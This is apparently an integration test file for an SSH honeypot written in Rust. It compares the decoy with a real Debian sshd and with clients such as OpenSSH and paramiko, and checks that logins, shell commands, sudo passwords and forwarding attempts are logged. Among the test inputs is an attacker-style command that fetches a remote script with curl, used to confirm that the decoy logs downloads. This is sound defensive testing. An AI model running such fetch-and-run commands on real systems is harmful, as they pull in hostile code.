//! The SSH decoy against real clients (OpenSSH's `ssh`, paramiko) and side by side with a
//! real Debian sshd (OpenSSH 9.2p1) started on a loopback port: several passwords per
//! connection, key-then-password, the shell, `ssh -W`, bad identifications, algorithm lists.

mod harness;

use std::{
    collections::BTreeMap,
    path::{Path, PathBuf},
    time::Duration,
};

use harness::{Harness, run};
use sensor::event::{Action, Service};
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const LIMIT: Duration = Duration::from_secs(30);

fn fast() -> Value {
    json!({"port": 0, "auth_failure_delay_ms": 50, "users": {"bob": "Spring2025"}})
}

fn ssh_opts(dir: &Path) -> Vec<String> {
    [
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        &format!("UserKnownHostsFile={}", dir.join("known_hosts").display()),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "IdentityFile=/nonexistent",
        "-o",
        "ConnectTimeout=10",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect()
}

async fn ssh_exec(dir: &Path, port: u16, command: &str) -> std::process::Output {
    let port = port.to_string();
    let mut args: Vec<String> = vec!["-p".into(), "Spring2025".into(), "ssh".into()];
    args.extend(ssh_opts(dir));
    args.extend(["-p".into(), port, "bob@127.0.0.1".into(), command.into()]);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    run("sshpass", &args, &[], LIMIT).await
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_retyping_a_wrong_password_three_times_gives_three_logins() {
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    let dir = harness::temp_dir("ssh-retype");
    // ssh asks its askpass program at each prompt: three prompts, three wrong passwords.
    let askpass = dir.join("askpass");
    std::fs::write(&askpass, "#!/bin/sh\necho wrong-$$\n").unwrap();
    std::fs::set_permissions(
        &askpass,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let port_s = port.to_string();
    let mut args = ssh_opts(&dir);
    args.extend(
        [
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "NumberOfPasswordPrompts=3",
            "-p",
            &port_s,
            "root@127.0.0.1",
            "true",
        ]
        .map(str::to_owned),
    );
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let askpass_s = askpass.to_str().unwrap();
    let out = run(
        "ssh",
        &args,
        &[("SSH_ASKPASS", askpass_s), ("SSH_ASKPASS_REQUIRE", "force")],
        LIMIT,
    )
    .await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(255), "{stderr}");
    assert!(
        stderr.contains("root@127.0.0.1: Permission denied (publickey,password)."),
        "{stderr}"
    );
    let events = h.until(Action::Login, 3, LIMIT).await;
    let passwords: Vec<&str> = events
        .iter()
        .filter(|e| e.action == Action::Login)
        .map(|e| e.extra["password"].as_str().unwrap())
        .collect();
    assert_eq!(passwords.len(), 3, "{passwords:?}");
    assert!(passwords.iter().all(|p| p.starts_with("wrong-")));
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

fn have_paramiko() -> bool {
    std::process::Command::new("/usr/bin/python3")
        .args(["-c", "import paramiko"])
        .status()
        .is_ok_and(|s| s.success())
}

/// paramiko sends a fresh `SERVICE_REQUEST ssh-userauth` before each method; sshd accepts it
/// again, russh 0.65 drops it silently (`server/encrypted.rs`, the `_ => Ok(())` arm), so
/// paramiko waits its `auth_timeout` and never sends the password. Needs a russh patch.
#[ignore = "russh 0.65 ignores a second SERVICE_REQUEST during authentication"]
#[tokio::test(flavor = "multi_thread")]
async fn paramiko_key_then_password_is_refused_promptly_and_both_are_logged() {
    assert!(
        have_paramiko(),
        "python3-paramiko is in TEST (xtask/src/deps.rs)"
    );
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    let script = format!(
        "import paramiko, time\n\
         key = paramiko.ECDSAKey.generate()\n\
         c = paramiko.SSHClient()\n\
         c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n\
         t = time.monotonic()\n\
         try:\n    c.connect('127.0.0.1', port={port}, username='admin', password='hunter2', pkey=key, look_for_keys=False, allow_agent=False, timeout=10, auth_timeout=10)\n    print('accepted')\n\
         except paramiko.AuthenticationException:\n    print('refused', key.get_name(), round(time.monotonic() - t))\n"
    );
    // Debian's python3, where python3-paramiko lives.
    let out = run("/usr/bin/python3", &["-c", &script], &[], LIMIT).await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        stdout.trim(),
        "refused ecdsa-sha2-nistp256 0",
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = h.until(Action::Login, 2, LIMIT).await;
    let logins: Vec<&sensor::event::Event> = events
        .iter()
        .filter(|e| e.action == Action::Login)
        .collect();
    assert_eq!(logins.len(), 2);
    assert_eq!(logins[0].extra["key_type"], json!("ecdsa-sha2-nistp256"));
    assert_eq!(logins[1].extra["password"], json!("hunter2"));
    assert_eq!(logins[1].extra["username"], json!("admin"));
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn shell_commands_over_exec_answer_as_debian() {
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    let dir = harness::temp_dir("ssh-exec");
    let cases = [
        ("pwd", "/home/bob\n"),
        ("cd /tmp && pwd", "/tmp\n"),
        ("echo hello world", "hello world\n"),
        (
            "whoami; id",
            "bob\nuid=1000(bob) gid=1000(bob) groups=1000(bob),27(sudo)\n",
        ),
        ("ls -a", ".\n..\n.bashrc\n.profile\n"),
        ("which uptime ps", "/usr/bin/uptime\n/usr/bin/ps\n"),
        (
            "cd /tmp; echo x > f; ls -la",
            "total 12\ndrwxrwxrwt 2 root root  4096 Nov 22 10:04 .\ndrwxr-xr-x 2 root root  4096 Nov 22 10:04 ..\n-rw-r--r-- 1 bob bob     2 Nov 22 10:04 f\n",
        ),
        (
            "uname -a",
            "Linux srv01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux\n",
        ),
        (
            "curl http://198.51.100.7/x.sh",
            "curl: (7) Failed to connect to 198.51.100.7 port 80 after 0 ms: Couldn't connect to server\n",
        ),
    ];
    for (command, want) in cases {
        let out = ssh_exec(&dir, port, command).await;
        assert_eq!(String::from_utf8_lossy(&out.stdout), want, "{command}");
    }
    let out = ssh_exec(&dir, port, "cat /proc/self/exe").await;
    assert!(out.stdout.starts_with(b"\x7fELF\x02\x01\x01"));
    let out = ssh_exec(&dir, port, "sudo id").await;
    assert_eq!(out.status.code(), Some(1));
    let events = h.drain(Duration::from_millis(500), LIMIT).await;
    let download = events
        .iter()
        .find(|e| e.extra.get("mode") == Some(&json!("download")))
        .expect("the download is logged");
    assert_eq!(download.extra["url"], json!("http://198.51.100.7/x.sh"));
    assert_eq!(download.extra["command"], json!("curl"));
    let commands: Vec<&str> = events
        .iter()
        .filter(|e| e.action == Action::Query && e.extra.get("mode") == Some(&json!("exec")))
        .filter_map(|e| e.extra["command"].as_str())
        .collect();
    assert_eq!(commands.len(), cases.len() + 2);
    assert_eq!(commands[1], "cd /tmp && pwd");
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn interactive_shell_keeps_its_directory_and_sudo_logs_the_password() {
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    let dir = harness::temp_dir("ssh-tty");
    let known = format!("UserKnownHostsFile={}", dir.join("known_hosts").display());
    let script = format!(
        "(sleep 1.5; echo 'cd /etc'; sleep 0.3; echo pwd; sleep 0.3; echo 'sudo whoami'; sleep 0.5; \
         echo 'S3cret'; sleep 0.3; echo 'Spring2025'; sleep 0.5; echo exit) \
         | sshpass -p Spring2025 ssh -tt -o StrictHostKeyChecking=no -o {known} -o IdentitiesOnly=yes \
           -o IdentityFile=/nonexistent -p {port} bob@127.0.0.1"
    );
    let out = run("sh", &["-c", &script], &[], LIMIT).await;
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("bob@srv01:~$ cd /etc\r\nbob@srv01:/etc$ pwd\r\n/etc\r\n"),
        "{text}"
    );
    assert!(
        text.contains(
            "bob@srv01:/etc$ sudo whoami\r\n[sudo] password for bob: \r\nSorry, try again.\r\n[sudo] password for bob: \r\nroot\r\nbob@srv01:/etc$ "
        ),
        "{text}"
    );
    assert!(
        !text.contains("S3cret"),
        "the password is not echoed: {text}"
    );
    let events = h.drain(Duration::from_millis(500), LIMIT).await;
    let sudo: Vec<&str> = events
        .iter()
        .filter(|e| e.action == Action::Login && e.extra.get("sudo") == Some(&json!(true)))
        .filter_map(|e| e.extra["password"].as_str())
        .collect();
    assert_eq!(sudo, ["S3cret", "Spring2025"]);
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test(flavor = "multi_thread")]
async fn ssh_w_is_logged_with_its_target_and_refused() {
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    let dir = harness::temp_dir("ssh-w");
    let port_s = port.to_string();
    let mut args: Vec<String> = vec!["-p".into(), "Spring2025".into(), "ssh".into()];
    args.extend(ssh_opts(&dir));
    args.extend(["-W", "10.9.8.7:3389", "-p", &port_s, "bob@127.0.0.1"].map(str::to_owned));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let out = run("sshpass", &args, &[], LIMIT).await;
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(255), "{stderr}");
    // sshd says `open failed` as the description; russh says `Administratively prohibited`.
    assert!(
        stderr.contains("channel 0: open failed: administratively prohibited: "),
        "{stderr}"
    );
    assert!(stderr.contains("stdio forwarding failed"), "{stderr}");
    let events = h.until(Action::Query, 1, LIMIT).await;
    let forward = events
        .iter()
        .find(|e| e.extra.get("mode") == Some(&json!("direct-tcpip")))
        .unwrap();
    assert_eq!(forward.extra["target_host"], json!("10.9.8.7"));
    assert_eq!(forward.extra["target_port"], json!(3389));
    assert_eq!(forward.extra["username"], json!("bob"));
    assert_eq!(&forward.data[..], b"10.9.8.7:3389");
    h.stop().await;
    let _ = std::fs::remove_dir_all(dir);
}

/// Sends `line` after the server's identification; returns the identification, whatever
/// came after it until the server closed, and whether the close was a reset.
async fn identification_answer(port: u16, line: &[u8]) -> (String, Vec<u8>, bool) {
    let mut s = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .expect("loopback test step");
    let mut got = Vec::new();
    let mut buf = [0_u8; 4096];
    tokio::time::timeout(LIMIT, async {
        while !got.contains(&b'\n') {
            let n = s.read(&mut buf).await.expect("loopback test step");
            assert!(n > 0, "closed before the identification");
            got.extend_from_slice(&buf[..n]);
        }
    })
    .await
    .expect("loopback test step");
    let end = got
        .iter()
        .position(|&b| b == b'\n')
        .expect("loopback test step");
    let ident = String::from_utf8_lossy(&got[..=end]).into_owned();
    let mut rest = got[end + 1..].to_vec();
    s.write_all(line).await.expect("loopback test step");
    let reset = tokio::time::timeout(LIMIT, async {
        loop {
            match s.read(&mut buf).await {
                Ok(0) => break false,
                Ok(n) => rest.extend_from_slice(&buf[..n]),
                Err(e) => {
                    assert_eq!(e.kind(), std::io::ErrorKind::ConnectionReset);
                    break true;
                }
            }
        }
    })
    .await
    .expect("loopback test step");
    (ident, rest, reset)
}

/// The bad identifications, what sshd 9.2p1 answers, and whether its close is a reset (sshd
/// reads up to the offending byte and closes with the rest unread).
fn bad_identifications() -> Vec<(Vec<u8>, &'static [u8], bool)> {
    let invalid: &[u8] = b"Invalid SSH identification string.\r\n";
    let mismatch: &[u8] = b"Protocol major versions differ.\r\n";
    vec![
        (b"GET / HTTP/1.0\r\n".to_vec(), invalid, false),
        (b"SSH-1.5-OldClient\r\n".to_vec(), mismatch, false),
        (b"SSH-3.0-Future\r\n".to_vec(), mismatch, false),
        (b"SSH-2.0-\r\n".to_vec(), invalid, false),
        (b"SSH-2.0-a\rb\r\n".to_vec(), invalid, true),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_identifications_get_sshds_answers() {
    let mut h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let port = h.addr(Service::Ssh).port();
    for (line, want, reset) in bad_identifications() {
        let (ident, rest, was_reset) = identification_answer(port, &line).await;
        assert_eq!(ident, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u7\r\n");
        assert_eq!(was_reset, reset, "{}", String::from_utf8_lossy(&line));
        if !reset {
            assert_eq!(rest, want, "{}", String::from_utf8_lossy(&line));
        }
    }
    // 300 bytes: sshd takes it and starts the key exchange; russh cannot, the decoy closes
    // (cleanly, never a reset).
    let long = [b"SSH-2.0-".as_slice(), &[b'x'; 290], b"\r\n"].concat();
    let (_, rest, reset) = identification_answer(port, &long).await;
    assert_eq!((rest, reset), (Vec::new(), false));
    let events = h.drain(Duration::from_millis(500), LIMIT).await;
    let answers: Vec<&str> = events
        .iter()
        .filter(|e| e.action == Action::Query)
        .filter_map(|e| e.extra["answer"].as_str())
        .collect();
    assert_eq!(
        answers,
        [
            "Invalid SSH identification string.",
            "Protocol major versions differ.",
            "Protocol major versions differ.",
            "Invalid SSH identification string.",
            "Invalid SSH identification string.",
            ""
        ]
    );
    h.stop().await;
}

/// A real sshd on a loopback port, with its own keys and configuration, no PAM.
struct RealSshd {
    child: tokio::process::Child,
    port: u16,
    dir: PathBuf,
}

impl RealSshd {
    async fn start() -> Self {
        assert!(
            Path::new("/usr/sbin/sshd").exists(),
            "openssh-server is in TEST (xtask/src/deps.rs)"
        );
        let dir = harness::temp_dir("real-sshd");
        for kind in ["rsa", "ecdsa", "ed25519"] {
            let key = dir.join(format!("ssh_host_{kind}_key"));
            let out = run(
                "ssh-keygen",
                &[
                    "-q",
                    "-t",
                    kind,
                    "-N",
                    "",
                    "-f",
                    key.to_str().expect("loopback test step"),
                ],
                &[],
                LIMIT,
            )
            .await;
            assert!(out.status.success());
        }
        std::fs::create_dir_all("/run/sshd").expect("loopback test step");
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .expect("loopback test step")
            .local_addr()
            .expect("loopback test step")
            .port();
        let config = format!(
            "Port {port}\nListenAddress 127.0.0.1\nHostKey {d}/ssh_host_rsa_key\nHostKey {d}/ssh_host_ecdsa_key\nHostKey {d}/ssh_host_ed25519_key\nUsePAM no\nPidFile {d}/sshd.pid\nStrictModes no\nAllowTcpForwarding no\n",
            d = dir.display()
        );
        let conf = dir.join("sshd_config");
        std::fs::write(&conf, config).expect("loopback test step");
        let child = tokio::process::Command::new("/usr/sbin/sshd")
            .args(["-D", "-e", "-f", conf.to_str().expect("loopback test step")])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .expect("loopback test step");
        let deadline = tokio::time::Instant::now() + LIMIT;
        while tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_err()
        {
            assert!(tokio::time::Instant::now() < deadline, "sshd did not start");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        Self { child, port, dir }
    }
}

impl Drop for RealSshd {
    fn drop(&mut self) {
        let _ = self.child.start_kill();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// `nmap --script ssh2-enum-algos`: each list by name.
async fn enum_algos(port: u16) -> BTreeMap<String, Vec<String>> {
    let out = run(
        "nmap",
        &[
            "-Pn",
            "-n",
            // The script runs on ports identified as ssh.
            "-sV",
            "--version-intensity",
            "0",
            "-p",
            &port.to_string(),
            "--script",
            "ssh2-enum-algos",
            "127.0.0.1",
        ],
        &[],
        LIMIT,
    )
    .await;
    let text = String::from_utf8_lossy(&out.stdout);
    let mut lists: BTreeMap<String, Vec<String>> = BTreeMap::new();
    let mut current = None;
    for line in text.lines() {
        let Some(body) = line.strip_prefix('|').or_else(|| line.strip_prefix("|_")) else {
            continue;
        };
        let body = body.trim_start_matches('_');
        let trimmed = body.trim();
        if let Some((name, _)) = trimmed.split_once(": (") {
            current = Some(name.to_owned());
            lists.insert(name.to_owned(), Vec::new());
        } else if body.starts_with("     ")
            && let Some(name) = &current
        {
            lists
                .get_mut(name)
                .expect("loopback test step")
                .push(trimmed.to_owned());
        }
    }
    assert!(!lists.is_empty(), "{text}");
    lists
}

#[tokio::test(flavor = "multi_thread")]
async fn side_by_side_with_a_real_sshd() {
    let sshd = RealSshd::start().await;
    let h = Harness::start(json!({"ssh": [fast()]}), json!({})).await;
    let decoy = h.addr(Service::Ssh).port();

    let real = enum_algos(sshd.port).await;
    let ours = enum_algos(decoy).await;
    // What russh 0.65 does not implement: the only differences.
    let missing = [
        "sntrup761x25519-sha512",
        "sntrup761x25519-sha512@openssh.com",
        "umac-64-etm@openssh.com",
        "umac-128-etm@openssh.com",
        "umac-64@openssh.com",
        "umac-128@openssh.com",
    ];
    let expected: BTreeMap<String, Vec<String>> = real
        .iter()
        .map(|(k, v)| {
            let kept = v
                .iter()
                .filter(|a| !missing.contains(&a.as_str()))
                .cloned()
                .collect();
            (k.clone(), kept)
        })
        .collect();
    assert_eq!(ours, expected, "real sshd: {real:?}");
    assert!(real["kex_algorithms"].contains(&missing[1].to_owned()));

    for (line, want, reset) in bad_identifications() {
        let (_, from_sshd, sshd_reset) = identification_answer(sshd.port, &line).await;
        let (_, from_decoy, decoy_reset) = identification_answer(decoy, &line).await;
        let shown = String::from_utf8_lossy(&line);
        assert_eq!((sshd_reset, decoy_reset), (reset, reset), "{shown}");
        if !reset {
            assert_eq!(from_sshd, want, "{shown}");
            assert_eq!(from_decoy, from_sshd, "{shown}");
        }
    }
    h.stop().await;
}
